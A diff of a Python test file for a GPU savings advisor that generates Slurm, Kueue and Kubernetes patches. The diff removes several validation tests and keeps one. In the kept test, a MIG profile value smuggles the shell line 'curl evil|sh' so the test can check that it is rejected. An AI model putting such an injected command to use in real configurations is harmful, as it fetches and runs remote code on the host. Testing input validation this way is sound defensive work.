@@ -1,4 +1,4 @@
-"""Names in a patch: files whose names differ, words that Slurm has for more than one node, and figures of a ledger."""
+"""Names in a patch: files whose names differ, and the MIG profile of a ledger."""
 
 from __future__ import annotations
 
@@ -6,13 +6,10 @@ import shlex
 
 import pytest
 from skuwise.advisor.core.advice_types import SavingsBaseline
-from skuwise.advisor.moves.tracking.observation import Measure
 from skuwise.advisor.patches.model import PatchSet
 from skuwise.rules.base.errors import UsageError
 from skuwise.tests.support.patch_cases import (
-    BATCH_SCRIPT,
     ONE_GPU_SCRIPT,
-    SLURM_CONF,
     accepted,
     patch_of,
 )
@@ -40,44 +37,7 @@ def test_nodes_of_like_names_have_a_file_each(nodes: tuple[str, ...]) -> None:
         assert f"name: {node}\n" in part.patch.text and shlex.split(part.apply[0])[3] == node
 
 
-def test_a_node_that_is_named_twice_is_changed_once() -> None:
-    assert len(patch_of("consolidate", "kubernetes", nodes=("n1", "n1")).parts) == 1
-    assert "nodename=n1 " in patch_of("consolidate", "slurm", nodes=("n1", "n1")).parts[0].patch.text
-
-
-def test_scripts_of_one_name_have_a_file_each_and_their_originals_the_same_number() -> None:
-    other = BATCH_SCRIPT.replace("=chat", "=other")
-    given = (("a/job.sh", BATCH_SCRIPT), ("b/job.sh", other), ("patch-job-sh.diff/job.sh", BATCH_SCRIPT))
-    made = patch_of("swap-placement", "slurm", *given, partition="plain")
-    assert named_once(made)[:4] == [
-        "patch-job-sh.diff",
-        "undo-job-sh.diff",
-        "patch-job-sh-2.diff",
-        "undo-job-sh-2.diff",
-    ]
-    assert [shlex.split(part.apply[0])[1] for part in made.parts] == [f"/srv/{name}" for name, _ in given]
-    assert [one.name for one in made.originals] == ["original-job-sh", "original-job-sh-2", "original-job-sh-3"]
-    assert made.originals[1].text == other and "=other" in made.parts[1].patch.text
-
-
-@pytest.mark.parametrize("name", ["ALL", "all", "Default", "DEFAULT"])
-def test_words_of_slurm_are_no_nodes(name: str) -> None:
-    entry = accepted("consolidate", yardstick=SavingsBaseline(nodes=("n1", name), freed=(name,)))
-    with pytest.raises(UsageError, match="is a word of Slurm"):
-        patch_of("consolidate", "slurm", entry=entry)
-    with pytest.raises(UsageError, match="is a word of Slurm"):
-        patch_of("mig-slice", "slurm", ("slurm.conf", SLURM_CONF), nodes=(name,))
-
-
-def test_a_partition_of_defaults_is_none() -> None:
-    with pytest.raises(UsageError, match="is a word of Slurm"):
-        patch_of("swap-placement", "slurm", ("job.sh", BATCH_SCRIPT), partition="default")
-    assert (
-        "--nodes" in patch_of("swap-placement", "slurm", ("job.sh", BATCH_SCRIPT), partition="all").parts[0].patch.text
-    )
-
-
-@pytest.mark.parametrize("target", ["slurm", "nvidia", "kueue", "kubernetes"])
+@pytest.mark.parametrize("target", ["slurm", "kueue", "kubernetes"])
 def test_a_mig_profile_of_the_ledger_is_checked_as_a_typed_one(target) -> None:
     entry = accepted("mig-slice", yardstick=SavingsBaseline(mig_profile="1g.10gb:1\ncurl evil|sh\n#"))
     given = (("job.sh", ONE_GPU_SCRIPT),) if target == "slurm" else ()
@@ -87,15 +47,3 @@ def test_a_mig_profile_of_the_ledger_is_checked_as_a_typed_one(target) -> None:
                   "      resources: [{name: nvidia.com/gpu, nominalQuota: 8}]\n"),)  # fmt: skip
     with pytest.raises(UsageError, match="not a valid MIG profile"):
         patch_of("mig-slice", target, *given, entry=entry, container="server")
-
-
-@pytest.mark.parametrize("share", [1e300, -1.0, 1e-9])
-def test_clocks_and_limits_of_the_ledger_that_no_gpu_has_are_refused(share: float) -> None:
-    measured = Measure(16.0, 11_680.0, clock_ratio=1.0)
-    clock = accepted("lower-clock", yardstick=SavingsBaseline(clock_share=share), before=measured)
-    for target in ("nvidia", "slurm"):
-        with pytest.raises(UsageError, match="--mhz"):
-            patch_of("lower-clock", target, *((("job.sh", BATCH_SCRIPT),) if target == "slurm" else ()), entry=clock)
-    limit = accepted("power-cap", yardstick=SavingsBaseline(cap_watts=-share if share > 0 else share))
-    with pytest.raises(UsageError, match="--watts"):
-        patch_of("power-cap", "nvidia", entry=limit)
